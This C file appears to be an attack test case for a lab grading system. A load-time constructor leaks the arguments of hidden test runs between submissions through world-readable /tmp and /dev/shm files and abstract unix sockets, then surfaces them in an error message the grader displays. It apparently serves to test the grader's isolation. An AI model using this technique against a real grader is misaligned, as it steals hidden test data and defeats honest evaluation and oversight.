/* Attack (issue 35, item 1): runs of one submission talking through what
 * they share without namespaces (uid-only mode). Rank 0 of every run
 * publishes "<ranks>:<NCCLAB_ARGS>" in a world-readable file in /tmp and in
 * /dev/shm, and binds an abstract unix socket named after it; rank 0 of a
 * 2-rank run (warmup3, a public run) looks for 6 s for what runs of lab
 * 2's hidden shapes published, and fails with it as its error message,
 * which the grader quotes in a visible test. */
#include <dirent.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static char heard[2048];

/* A hidden run of lab 2: 3 ranks without warm-up, or 5 ranks at one odd
 * size (-b equal to -e); the public 3- and 5-rank runs are neither. */
static int hidden_shape(const char *what)
{
    unsigned long b = 0, e = 1;
    const char *pb = strstr(what, "-b "), *pe = strstr(what, "-e ");
    if (pb && pe) {
        b = strtoul(pb + 3, NULL, 10);
        e = strtoul(pe + 3, NULL, 10);
    }
    return (what[0] == '3' && what[1] == ':' && strstr(what, " -w 0")) ||
           (what[0] == '5' && what[1] == ':' && b == e);
}

static void hear(const char *what)
{
    if (hidden_shape(what) && !strstr(heard, what) &&
        strlen(heard) + strlen(what) + 3 < sizeof heard) {
        strcat(heard, what);
        strcat(heard, " | ");
    }
}

static void read_dir(const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (strncmp(e->d_name, "ncclab-relay-", 13) != 0) continue;
        char path[512], text[600];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        size_t n = fread(text, 1, sizeof text - 1, f);
        fclose(f);
        text[n] = '\0';
        text[strcspn(text, "\n")] = '\0';
        hear(text);
    }
    if (d) closedir(d);
}

/* Abstract sockets: /proc/net/unix lists their names ("@ncclab-relay:..."). */
static void read_sockets(void)
{
    FILE *f = fopen("/proc/net/unix", "r");
    char line[1024];
    while (f && fgets(line, sizeof line, f)) {
        char *at = strstr(line, "@ncclab-relay:");
        if (!at) continue;
        at += 14;
        at[strcspn(at, "\n")] = '\0';
        for (char *p = at; *p; p++)
            if (*p == '_') *p = ' ';
        hear(at);
    }
    if (f) fclose(f);
}

__attribute__((constructor)) static void relay(void)
{
    const char *size = getenv("OMPI_COMM_WORLD_SIZE"), *rank = getenv("OMPI_COMM_WORLD_RANK");
    const char *args = getenv("NCCLAB_ARGS");
    if (!size || !rank || strcmp(rank, "0") != 0) return;
    char mine[600];
    snprintf(mine, sizeof mine, "%s:%s", size, args ? args : "");
    static const char *const dirs[] = {"/tmp", "/dev/shm"};
    for (int i = 0; i < 2; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s/ncclab-relay-%d", dirs[i], (int)getpid());
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) continue;
        (void)fchmod(fd, 0644);
        (void)!write(fd, mine, strlen(mine));
        close(fd);
    }
    static int sock = -1; /* held open for the run */
    sock = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    int n = snprintf(sa.sun_path + 1, sizeof sa.sun_path - 1, "ncclab-relay:%s", mine);
    for (char *p = sa.sun_path + 1; *p; p++)
        if (*p == ' ') *p = '_';
    if (n > (int)sizeof sa.sun_path - 2) n = (int)sizeof sa.sun_path - 2;
    if (sock >= 0)
        (void)bind(sock, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n));
    if (strcmp(size, "2") != 0) return;
    time_t end = time(NULL) + 6;
    while (time(NULL) < end) {
        read_dir("/tmp");
        read_dir("/dev/shm");
        read_sockets();
        usleep(50000);
    }
    if (heard[0]) {
        fprintf(stderr, "[rank 0] error: RELAY %s\n", heard);
        exit(1);
    }
}
